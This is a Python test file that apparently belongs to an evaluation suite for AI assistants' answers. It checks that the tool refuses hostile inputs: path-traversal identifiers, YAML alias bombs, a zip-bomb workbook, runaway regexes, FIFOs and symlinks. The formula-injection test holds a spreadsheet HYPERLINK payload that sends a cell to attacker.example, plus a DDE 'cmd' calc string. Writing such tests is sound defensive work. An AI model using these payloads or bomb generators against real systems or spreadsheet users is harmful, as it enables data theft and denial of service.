"""Hostile input, round two (issue 30): each test builds its own hostile input and failed before its fix.

Groups covered here: identifiers that become paths (1), inputs that explode (3: the sentence splitter, YAML alias
bombs), formula injection in the paper's tables (5) and run folders people can share (9). No mocks: real files, the real
`groundbench` command and papermill for the run folder."""
import json
import os
import stat
import time

import pandas as pd
import pytest

from conftest import groundbench


def one_line_error(p, *needles):
    "A refusal as the README promises: non-zero exit, one line on standard error naming what is wrong, no traceback."
    assert p.returncode != 0, p.stdout
    lines = [l for l in p.stderr.splitlines() if l.strip() and "WARNING" not in l]
    assert len(lines) == 1 and "Traceback" not in p.stderr, p.stderr[-2000:]
    for n in needles: assert n in lines[0], lines[0]
    return lines[0]


# 1. identifiers that become paths

@pytest.mark.parametrize("prompt_id", ["../../escaped", "/tmp/absolute-escape", "..", "a/b", ".hidden", "-dash",
                                       "x\ny"])
def test_a_prompt_id_never_writes_outside_the_archive(tmp_path, prompt_id):
    "A prompts table's prompt_id is data: records stay in records/<collector>/, found again by the same id."
    from groundbench.collect.base import Archive
    root = tmp_path / "run" / "20_collect"
    a = Archive(root)
    p = a.save_record("chatgpt", prompt_id, {"prompt_id": prompt_id, "provider": "chatgpt"})
    assert p.parent == root / "records" / "chatgpt" and p.resolve().is_relative_to(root.resolve())
    assert a.has("chatgpt", prompt_id) and json.loads(p.read_text())["prompt_id"] == prompt_id
    assert not any(q.is_file() for q in tmp_path.rglob("*") if not q.resolve().is_relative_to(root.resolve()))
    assert [r["prompt_id"] for r in a.records("chatgpt")] == [prompt_id]
    with pytest.raises(ValueError, match="not a plain file name"): a.save_record("../chatgpt", "x", {})
    assert a.record_path("chatgpt", "X1-fact_checker-2").name == "X1-fact_checker-2.json"  # plain ids keep their name


def test_a_poisoned_fetch_record_is_refetched_never_read_through(tmp_path):
    "A fetch record whose sha256 is a path counts as no record; a body is only ever read by a real digest."
    from groundbench.sources.stage import PageStore, record_path
    secret = tmp_path / "secret.bin"
    secret.write_bytes(b"TOP SECRET")
    store = PageStore(tmp_path / "run" / "30_sources")
    url = "https://example.org/a"
    rec_path = record_path(store.root, url)
    rec_path.parent.mkdir(parents=True)
    rec_path.write_text(json.dumps({"url": url, "final_url": url, "status": 200, "sha256": "../../../../secret"}))
    assert store.record(url) is None
    for bad in ("../../../../secret", "/etc/passwd", "A" * 64, ""):
        with pytest.raises(ValueError, match="not a sha256 digest"): store.body(bad)
    good = store.store_body(b"<html>hello</html>")
    assert store.body(good) == b"<html>hello</html>"


@pytest.mark.parametrize("stage", ["../nbs/10_claims", "/work/main/nbs/10_claims.ipynb", "10_claims.ipynb",
                                   "nbs/10_claims"])
def test_a_stage_is_a_registry_name_never_a_path(tmp_path, stage):
    (tmp_path / "p.yaml").write_text(f"run_id: t\nstages: [{json.dumps(stage)}]\n")
    one_line_error(groundbench("run", tmp_path / "p.yaml", "--runs-dir", tmp_path / "runs"), "field 'stages'")
    assert not (tmp_path / "runs" / "t" / "notebooks").exists()


@pytest.mark.parametrize("run_id", ["[1, 2]", "a b", "../up", ".hidden", "-x", "x" * 129])
def test_a_run_id_is_a_plain_folder_name(tmp_path, run_id):
    spec = tmp_path / "p.yaml"
    spec.write_text(json.dumps({"run_id": [1, 2] if run_id == "[1, 2]" else run_id, "stages": ["10_claims"]}))
    one_line_error(groundbench("estimate", spec, "--runs-dir", tmp_path / "runs"), "field 'run_id'",
                   "plain folder name")
    assert not (tmp_path / "runs").exists() or not any((tmp_path / "runs").iterdir())


# 3. inputs that explode

@pytest.mark.timeout(120)  # the quadratic splitter took about 10 minutes on a million characters
def test_a_million_character_paragraph_is_split_in_linear_time():
    from groundbench.collect.base import segment_blocks, text_blocks
    unit = "Dr. Smith said the U.S. rate rose 3.5 percent in J. K. Rowling's town. "
    assert len(segment_blocks(text_blocks(unit * 3), 0)[1]) == 3  # abbreviations, initials and decimals do not split
    n = 1_000_000 // len(unit)
    t0 = time.perf_counter()
    text, segs = segment_blocks(text_blocks(unit * n), 0)
    assert len(segs) == n and len(text) == len((unit * n).strip())
    print(f"{n * len(unit):,} characters split into {n:,} sentences in {time.perf_counter() - t0:.1f} s")


def _bomb(levels=9) -> str:
    "A flow mapping of nested aliases: 9 ** (levels + 1) items once expanded, a few hundred bytes written."
    parts = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for p, c in zip("abcdefghij"[:levels], "bcdefghijk"[:levels]):
        parts.append(f"{c}: &{c} [" + ", ".join([f"*{p}"] * 9) + "]")
    return "{" + ", ".join(parts) + "}"


@pytest.mark.timeout(60)
@pytest.mark.parametrize("where", ["run_id", "description", "parameters", "stages"])
def test_yaml_alias_bombs_are_refused_at_the_first_alias(tmp_path, where):
    "Under 1 KB of nested aliases (9 ** 10 items expanded) in any field of a parameter file: refused, one short line."
    fields = {"run_id": "t", "description": "d", "parameters": "{sample: 3}", "stages": "[10_claims]", where: _bomb()}
    (tmp_path / "p.yaml").write_text("".join(f"{k}: {v}\n" for k, v in fields.items()))
    assert (tmp_path / "p.yaml").stat().st_size < 1024
    p = groundbench("run", tmp_path / "p.yaml", "--runs-dir", tmp_path / "runs")
    line = one_line_error(p, "aliases", "not accepted")
    assert len(line) < 600 and not (tmp_path / "runs").exists()


# 5. formula injection

def test_paper_tables_are_spreadsheet_safe_in_headers_cells_and_index(tmp_path):
    from groundbench.core import read_table
    from groundbench.tables import write_table_files
    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
    df = pd.DataFrame({evil: ["@SUM(1+1)", "+cmd|' /C calc'!A0", "fine"], "CR": [93.3, -1.5, 0.0],
                       "note": ["-", "-2.5", "-x"]},
                      index=pd.Index([evil, "ChatGPT", "\tTAB"], name="assistant"))
    for index in (False, True):
        (path,) = write_table_files(df, tmp_path / str(index), "table_1", "Table 1", index=index, formats=("csv",))
        raw = pd.read_csv(path, dtype=str, keep_default_na=False)
        cells = [c for c in raw.columns] + [v for col in raw.columns for v in raw[col]]
        assert not any(isinstance(c, str) and c[:1] in "=+@\t\r" for c in cells), cells  # nothing a spreadsheet runs
        assert "'" + evil in raw.columns and "'-x" in set(raw.note)
        assert {"-", "-2.5"} <= set(raw.note)  # numbers and dashes as they were
        assert set(raw.CR) == {"93.3", "-1.5", "0.0"}
        if index: assert "'" + evil in set(raw.assistant) and "'\tTAB" in set(raw.assistant)
        back = read_table(path)  # the suite's own reader gives the text back
        assert evil in back.columns and "@SUM(1+1)" in set(back[evil])


# 9. run folders people can share

def test_run_folder_files_have_the_usual_permissions(tmp_path):
    "Atomic writes keep the mode a new file gets under the umask (mkstemp's is owner-only): a run folder can be shared."
    old = os.umask(0o022)
    try:
        (tmp_path / "p.yaml").write_text("run_id: t\nstages: [10_claims]\nparameters: {question_rewrite_sample: 0}\n")
        groundbench("run", tmp_path / "p.yaml", "--runs-dir", tmp_path / "runs", "--no-estimate", check=True)
    finally: os.umask(old)
    files = [p for p in (tmp_path / "runs" / "t").rglob("*") if p.is_file()]
    assert len(files) >= 5
    modes = {p.relative_to(tmp_path).as_posix(): stat.S_IMODE(p.stat().st_mode) for p in files}
    assert all(m == 0o644 for m in modes.values()), {k: oct(m) for k, m in modes.items() if m != 0o644}


# 2. outputs that overwrite inputs

ANSWERS = "assistant,answer,urls\nBot,Garlic does not cure flu [1].,https://example.org/a\n"
MAP = ("--map", "answer=answer", "--map", "assistant=assistant", "--map", "urls=urls")


@pytest.mark.parametrize("name", ["rejected_rows.csv", "conversations.jsonl", "imported_answers.parquet",
                                  "import_counts.json"])
def test_import_never_writes_over_its_input(tmp_path, name):
    "An input that sits in the output folder under a name the import writes is refused before anything is written."
    out = tmp_path / "out"
    out.mkdir()
    src = out / name
    src.write_text(ANSWERS)
    p = groundbench("import", src, "--out", out, *MAP)
    one_line_error(p, "--out", "which this command reads")
    assert src.read_text() == ANSWERS and sorted(q.name for q in out.iterdir()) == [name]
    if name.endswith(".csv"):  # the same table into another folder: imported
        ok = groundbench("import", src, "--out", tmp_path / "elsewhere", *MAP, check=True)
        assert (tmp_path / "elsewhere" / "conversations.jsonl").exists() and "1 answers" in ok.stdout


def test_compare_and_estimate_never_write_into_a_run_folder(tmp_path):
    "Issue 62 (12): not a stage's folder, not the report, not the run folder itself, not a figure beside the table."
    run = tmp_path / "runs" / "r"
    (run / "20_collect").mkdir(parents=True)
    (run / "report").mkdir()
    table = run / "report" / "table_1.csv"
    table.write_text("kept\n")
    (run / "manifest.json").write_text(json.dumps({"run_id": "r", "stages": {}}))
    conv = run / "20_collect" / "conversations.jsonl"
    conv.write_text("{}\n")
    p = groundbench("compare", run, "--a", "x", "--b", "y", "--out", conv)
    one_line_error(p, "inside the run folder r/20_collect")
    assert conv.read_text() == "{}\n"
    ab = ("--a", "x", "--b", "y")
    one_line_error(groundbench("compare", run, *ab, "--out", table), "inside the run folder r/report")
    one_line_error(groundbench("compare", run, *ab, "--out", tmp_path / "c.csv"),
                   "conversations.jsonl: row 1")   # outside every run: on to reading the run
    (run / "report" / "c.png").write_text("kept")
    one_line_error(groundbench("compare", run, *ab, "--out", run / "c.csv"), "inside the run folder r")
    for out in (run / "report", run):          # drift's page and figures
        one_line_error(groundbench("compare", run, run, "--out", out), "inside the run folder r")
    assert table.read_text() == "kept\n"
    assert sorted(q.name for q in (run / "report").iterdir()) == ["c.png", "table_1.csv"]
    params = tmp_path / "p.yaml"
    params.write_text("run_id: r\nstages: [10_claims]\nparameters: {question_rewrite_sample: 0}\n")
    p = groundbench("estimate", params, "--runs-dir", tmp_path / "runs", "--out", run / "10_claims" / "e.csv")
    one_line_error(p, "inside the run folder r/10_claims")
    one_line_error(groundbench("estimate", params, "--out", params), "which this command reads")
    assert params.read_text().startswith("run_id: r") and not (run / "10_claims").exists()


# 4. silent wrong data
def test_an_unbalanced_quote_is_refused_not_merged_into_the_next_answer(tmp_path):
    "Before: the open quote ran the next row into the first answer, and its citation moved to the first assistant."
    src = tmp_path / "answers.csv"
    src.write_text('assistant,answer,urls\nBotA,"Garlic cures flu [1].,https://a.org/x\nBotB,No [1].,https://b.org/y\n')
    one_line_error(groundbench("import", src, "--out", tmp_path / "out", *MAP), "answers.csv: line 2",
                   "must close it")
    assert not (tmp_path / "out" / "conversations.jsonl").exists()



PAIR_COLS = ("--claim-col", "claim", "--evidence-col", "evidence", "--label-col", "label")

def test_a_repeated_header_is_refused_not_renamed(tmp_path):
    "`answer,answer` was read by pandas as `answer` and `answer.1`, silently dropping the second column."
    src = tmp_path / "answers.csv"
    src.write_text("assistant,answer,answer,urls\nBot,First text.,Second text.,https://example.org/a\n")
    p = groundbench("import", src, "--out", tmp_path / "out", *MAP)
    one_line_error(p, "answers.csv: row 1: columns ['answer'] appear more than once")
    pairs = tmp_path / "pairs.csv"
    pairs.write_text("claim,evidence,evidence,label\nGarlic cures flu.,No trial shows it.,A blog says so.,refuted\n")
    p = groundbench("validate-judge", pairs, *PAIR_COLS, "--out", tmp_path / "v")
    one_line_error(p, "pairs.csv: row 1: columns ['evidence'] appear more than once")


def test_single_class_labels_are_said_and_the_json_is_json(tmp_path):
    "Human labels of one class only: kappa is undefined, which the command says; its JSON has no NaN or Infinity."
    pairs = tmp_path / "pairs.csv"
    rows = [f"Claim {i} about garlic.,Evidence {i}: garlic is a plant used in cooking.,supported" for i in range(8)]
    pairs.write_text("claim,evidence,label\n" + "\n".join(rows) + "\n")
    p = groundbench("validate-judge", pairs, *PAIR_COLS, "--no-judge", "--n-boot", "50", "--out", tmp_path / "v",
                    check=True)
    assert "note: every test row's human label is 'supported': kappa is undefined" in p.stdout
    text = (tmp_path / "v" / "pairs_validation.json").read_text()
    json.loads(text, parse_constant=lambda c: pytest.fail(f"{c} in the JSON"))
    assert json.loads(text)["notes"]


@pytest.mark.parametrize("setting,needle", [("gpu.decode_tokens_per_s=0", "[gpu] decode_tokens_per_s"),
                                            ("gpu.prefill_tokens_per_s=-5", "[gpu] prefill_tokens_per_s"),
                                            ("embed.top_k=-3", "[embed] top_k"),
                                            ("llm.n_ctx=nan", "[llm] n_ctx")])
def test_a_negative_zero_or_nan_setting_is_refused_by_name(tmp_path, setting, needle):
    "Before: estimate printed negative, infinite or blank figures, or int()'s own message without the setting's name."
    from conftest import ROOT
    p = groundbench("estimate", ROOT / "papermill_params" / "demo.yaml", "--setting", "llm.backend=vllm",
                    "--setting", setting, "--runs-dir", tmp_path / "runs")
    one_line_error(p, needle, "number >")


# 6. one bad file breaks nothing else (compare over a run whose estimate.csv is malformed)
def test_compare_reads_a_run_whose_estimate_is_malformed(tmp_path):
    src = tmp_path / "answers.csv"
    src.write_text("assistant,answer,urls\nBotA,Yes [1].,https://www.reuters.com/x\nBotA,Yes [1].,https://apnews.com/y\n"
                   "BotB,No [1].,https://www.infowars.com/z\nBotB,No [1].,https://www.bbc.com/w\n")
    spec = tmp_path / "r.yaml"
    spec.write_text(json.dumps({"run_id": "r", "stages": ["20_collect", "40_credibility"], "parameters": {
        "source": "table", "import_tables": [{"path": str(src), "answer": "answer", "assistant": "assistant",
                                              "urls": "urls"}]}}))
    groundbench("run", spec, "--runs-dir", tmp_path / "runs", "--no-estimate", check=True, timeout=600)
    run = tmp_path / "runs" / "r"
    (run / "estimate.csv").write_text('stage,step\n"unclosed,x\n')
    p = groundbench("compare", run, "--a", "BotA", "--b", "BotB", "--n-boot", "50", "--out", tmp_path / "ab.csv")
    assert p.returncode == 0 and "Traceback" not in p.stderr, p.stderr[-2000:]
    assert "estimate.csv left out" in p.stderr, p.stderr
    assert "CR" in p.stdout and "BotB" in p.stdout, p.stdout
    # issue 54: the comparison's forest plot beside its table, named on the screen
    assert (tmp_path / "ab.png").read_bytes()[:4] == b"\x89PNG" and (tmp_path / "ab.pdf").read_bytes()[:4] == b"%PDF"
    assert f"{tmp_path / 'ab.png'}" in p.stdout and len(pd.read_csv(tmp_path / "ab.csv"))
    from groundbench.report.tables import load_outputs
    o = load_outputs([run])
    assert o.estimates is None and any("estimate.csv left out" in n for n in o.notes), o.notes
    # 9. a score table edited by hand: text where a number belongs is named by file, row and column
    rates = run / "40_credibility" / "rates.csv"
    df = pd.read_csv(rates)
    df["cr"] = df["cr"].astype(object)
    df.loc[1, "cr"] = "high"
    df.to_csv(rates, index=False)
    p = groundbench("compare", run, "--a", "BotA", "--b", "BotB", "--n-boot", "50")
    one_line_error(p, "rates.csv: row 2, column 'cr': 'high' where a number belongs")


# 8. special files

@pytest.mark.timeout(60)
def test_devices_and_pipes_are_refused_not_read(tmp_path):
    "/dev/zero never ends and a FIFO blocks: as a parameter file, an import or a pairs table, each is refused by name."
    fifo = tmp_path / "answers.csv"
    os.mkfifo(fifo)
    one_line_error(groundbench("run", "/dev/zero"), "/dev/zero: not a regular file")
    p = groundbench("import", fifo, "--out", tmp_path / "o", "--map", "answer=answer", "--map", "assistant=a")
    one_line_error(p, "answers.csv: not a regular file")
    p = groundbench("validate-judge", "/dev/zero", *PAIR_COLS, "--no-judge", "--out", tmp_path / "v")
    one_line_error(p, "not a regular file")


# 6. one bad file breaks nothing else

def test_an_earlier_run_with_a_broken_manifest_never_stops_an_estimate(tmp_path):
    runs = tmp_path / "runs"
    llm = {"question_rewrite": {"requests": 2, "calls": "abc", "prompt_tokens": 600, "completion_tokens": 40}}
    model = {"llm": {"model": "smollm2-135m-instruct"}}
    for name, manifest in (("bad", {"models": model, "stages": {"10_claims": {"status": "done", "llm": llm}}}),
                           ("worse", {"models": model, "stages": {"10_claims": []}})):
        (runs / name).mkdir(parents=True)
        (runs / name / "manifest.json").write_text(json.dumps(manifest))
    params = tmp_path / "p.yaml"
    params.write_text("run_id: new\nstages: [10_claims]\nparameters: {question_rewrite_sample: 2}\n")
    p = groundbench("estimate", params, "--runs-dir", runs, check=True)
    assert "question_rewrite" in p.stdout
    assert ("bad/manifest.json: not used as history (stage '10_claims', step 'question_rewrite': calls is 'abc'"
            in p.stderr)


def test_cache_merge_refuses_foreign_and_corrupt_caches_and_concurrent_merges_lose_nothing(tmp_path):
    import sqlite3
    import subprocess
    from conftest import BIN
    from groundbench.llm.client import Completion, LLMCache
    foreign = tmp_path / "foreign.sqlite"
    with sqlite3.connect(foreign) as c:
        c.execute("CREATE TABLE completions (x TEXT)")
        c.execute("INSERT INTO completions VALUES ('a')")
    corrupt = tmp_path / "corrupt.sqlite"
    corrupt.write_bytes(b"SQLite format 3\x00" + os.urandom(4096))
    out = tmp_path / "merged.sqlite"
    one_line_error(groundbench("cache", "merge", foreign, "--out", out),
                   "foreign.sqlite: table 'completions' has columns ['x']")
    one_line_error(groundbench("cache", "merge", corrupt, "--out", out), "corrupt.sqlite: not a readable SQLite cache")
    assert not out.exists()
    desc = {"backend": "mock", "model": "m"}
    parts = []
    for k in range(4):
        parts.append(tmp_path / f"part{k}.sqlite")
        rows = [(f"k{k}-{i}", desc, Completion(f"text {k} {i}", 1, 1, "stop")) for i in range(300)]
        LLMCache(parts[-1]).put_many(rows)
    procs = [subprocess.Popen([str(BIN / "groundbench"), "cache", "merge", p, "--out", out], stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True) for p in parts]
    results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
    assert all(code == 0 for code, _ in results), results
    assert len(LLMCache(out)) == 1200


# 8. errors that say where, and 3. a spreadsheet that unpacks to gigabytes

@pytest.mark.timeout(120)
def test_unreadable_tables_are_named_and_a_zip_bomb_workbook_is_refused_unread(tmp_path):
    import zipfile
    (tmp_path / "empty.csv").write_text("")
    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04 not really a workbook")
    (tmp_path / "broken.parquet").write_bytes(b"PAR1 nothing else")
    with zipfile.ZipFile(tmp_path / "bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as z, \
            z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
        for _ in range(300): f.write(b"\0" * 2 ** 20)  # 300 MB of zeros, a few hundred KB packed
    assert (tmp_path / "bomb.xlsx").stat().st_size < 2 * 2 ** 20
    for name, needle in (("empty.csv", "empty.csv: cannot be read as a csv file (EmptyDataError"),
                         ("broken.xlsx", "broken.xlsx: cannot be read as a xlsx file (BadZipFile"),
                         ("broken.parquet", "broken.parquet: cannot be read as a parquet file"),
                         ("bomb.xlsx", "bomb.xlsx: the workbook unpacks to 300 MB, over the 256 MB")):
        p = groundbench("import", tmp_path / name, "--out", tmp_path / "o", "--map", "answer=a", "--map", "assistant=b")
        one_line_error(p, needle)


@pytest.mark.timeout(120)
def test_a_catastrophic_drop_lines_pattern_is_an_error_not_a_hang(tmp_path):
    "Python's re backtracks for ever on these; the regex module's time limit turns a runaway into an error naming it."
    src = tmp_path / "answers.csv"
    src.write_text("assistant,answer\nBot," + "a" * 60 + "b\nBot,Plain answer.\n")
    ok = groundbench("import", src, "--out", tmp_path / "o", "--map", "answer=answer", "--map", "assistant=assistant",
                     "--map", "drop_lines=(a+)+$", check=True)  # a pattern re never finishes: regex decides it at once
    assert "2 answers" in ok.stdout
    p = groundbench("import", src, "--out", tmp_path / "o2", "--map", "answer=answer", "--map", "assistant=assistant",
                    "--map", "drop_lines=(a|aa)+$")
    one_line_error(p, "answers.csv", "drop_lines '(a|aa)+$': over 1 s on one line of 61 characters")


@pytest.mark.parametrize("value", ["-3", "2.5", "true", "'all'", ".nan"])
def test_a_count_parameter_must_be_a_whole_number(tmp_path, value):
    "`sample: -3` once meant all conversations and printed negative estimates; a count is now a whole number >= 0."
    params = tmp_path / "p.yaml"
    params.write_text(f"run_id: t\nstages: [20_collect]\nparameters: {{source: expertqa, sample: {value}}}\n")
    for cmd in (("run", params, "--runs-dir", tmp_path / "runs"),
                ("estimate", params, "--runs-dir", tmp_path / "runs")):
        one_line_error(groundbench(*cmd), "p.yaml: parameter sample=", "give a whole number >= 0 (its default is")
    assert not (tmp_path / "runs" / "t" / "20_collect").exists()


# 7. the browser: pages that cannot be reached or never finish, browsers left running, Chromium's own calls to Google
@pytest.mark.chromium
def test_doctor_offline_exits_1_naming_the_step_that_failed(tmp_path):
    from conftest import free_port
    p = groundbench("doctor", "chatgpt", "--base-url", f"http://127.0.0.1:{free_port()}", "--out", tmp_path / "d",
                    timeout=300)
    assert p.returncode == 1 and "Traceback" not in p.stderr, p.stderr[-2000:]
    assert "open the page" in p.stderr and "could not be opened" in p.stderr, p.stderr
    assert json.loads((tmp_path / "d" / "doctor.json").read_text())["ok"] is False


@pytest.mark.chromium
def test_doctor_on_a_page_that_never_finishes_loading_stops_at_its_time_limit(tmp_path):
    import socket
    import threading
    import yaml
    from groundbench.collect.page import load_ui_config
    srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(8)
    held = []
    def serve():  # headers, a little HTML, then nothing: the page never finishes loading
        while True:
            try: c, _ = srv.accept()
            except OSError: return
            c.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: 100000\r\n\r\n<html><body>")
            held.append(c)
    threading.Thread(target=serve, daemon=True).start()
    cfg = load_ui_config("chatgpt")
    cfg["waits"]["page_load_s"] = 3
    (tmp_path / "slow.yaml").write_text(yaml.safe_dump(cfg))
    t0 = time.time()
    try:
        p = groundbench("doctor", "chatgpt", "--config", tmp_path / "slow.yaml", "--out", tmp_path / "d",
                        "--base-url", f"http://127.0.0.1:{srv.getsockname()[1]}", timeout=300)
    finally: srv.close()
    assert p.returncode == 1 and "Traceback" not in p.stderr, p.stderr[-2000:]
    assert "did not finish loading in 3 s" in p.stderr, p.stderr
    assert time.time() - t0 < 120


@pytest.mark.chromium
def test_no_browser_outlives_a_run_that_is_killed(tmp_path):
    "A run killed with SIGKILL (only its own process, as a crash or the OOM killer would) leaves no Chromium behind."
    import subprocess
    import sys
    code = ("from groundbench.collect.browser import make_driver\nimport time\nd = make_driver()\n"
            "d.get('about:blank')\n"
            "print(d.service.process.pid, flush=True)\ntime.sleep(120)\n")
    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    group = int(proc.stdout.readline())
    os.killpg(group, 0)  # chromedriver and Chromium are up, in their own process group
    proc.kill(); proc.wait()
    deadline = time.time() + 15
    while time.time() < deadline:
        try: os.killpg(group, 0)
        except ProcessLookupError: break
        time.sleep(0.3)
    else: pytest.fail(f"chromedriver's process group {group} outlived the killed run")


@pytest.mark.chromium
def test_chromium_asks_for_the_page_and_nothing_of_google(tmp_path):
    "Every request headless Chromium makes goes through the guard: only the page's own; Chromium's services are named."
    import http.server
    import socketserver
    import threading
    from groundbench.collect.browser import CHROMIUM_SERVICE_HOSTS, make_driver
    from groundbench.sources.browser import GuardProxy
    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            b = b"<html><body><p>A page.</p></body></html>"
            self.send_response(200); self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(b))); self.end_headers(); self.wfile.write(b)
        def log_message(self, *a): pass
    srv = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    local = f"127.0.0.1:{srv.server_address[1]}"
    try:
        with GuardProxy(True) as gp:
            d = make_driver(None, extra_args=gp.chromium_args())
            try:
                d.get(f"http://{local}/"); time.sleep(6)
            finally: d.quit()
    finally: srv.shutdown()
    from urllib.parse import urlsplit
    seen = {urlsplit(u).netloc for u in gp.passed} | {urlsplit(r["url"]).netloc for r in gp.refused}
    assert seen == {local}, seen  # nothing but the page (and its favicon)
    assert {urlsplit(u).hostname for u in gp.browser_services} <= set(CHROMIUM_SERVICE_HOSTS), gp.browser_services


def test_a_run_folder_file_that_is_a_device_or_a_link_is_refused_by_name_before_it_is_read(tmp_path):
    """Issue 44: `status` on a manifest linked to /dev/zero read until memory ran out (24 GB). A manifest or a labels
    file that is a link, a device or a pipe is refused in a second with the file named."""
    run = tmp_path / "r"
    run.mkdir()
    (run / "manifest.json").symlink_to("/dev/zero")
    t0 = time.monotonic()
    p = groundbench("status", run)
    assert p.returncode == 2 and "manifest.json: a symbolic link" in p.stderr, p.stderr
    assert time.monotonic() - t0 < 30
    (run / "manifest.json").unlink()
    os.mkfifo(run / "manifest.json")
    p = groundbench("status", run, timeout=60)
    assert p.returncode == 2 and "manifest.json: not a regular file" in p.stderr, p.stderr


def test_a_stage_folder_that_is_a_link_is_refused_not_written_through(tmp_path):
    "Issue 44 (8): a stage folder linked elsewhere once took the stage's outputs out of the run folder."
    src = tmp_path / "answers.csv"
    src.write_text("assistant,answer,urls\nBotA,Yes [1].,https://www.reuters.com/x\n")
    spec = tmp_path / "r.yaml"
    spec.write_text(json.dumps({"run_id": "r", "stages": ["20_collect"], "parameters": {
        "source": "table", "import_tables": [{"path": str(src), "answer": "answer", "assistant": "assistant",
                                              "urls": "urls"}]}}))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "runs" / "r").mkdir(parents=True)
    (tmp_path / "runs" / "r" / "20_collect").symlink_to(elsewhere)
    p = groundbench("run", spec, "--runs-dir", tmp_path / "runs", "--no-estimate", timeout=600)
    assert p.returncode != 0 and "20_collect: a symbolic link" in p.stderr, p.stderr[-2000:]
    assert list(elsewhere.iterdir()) == []
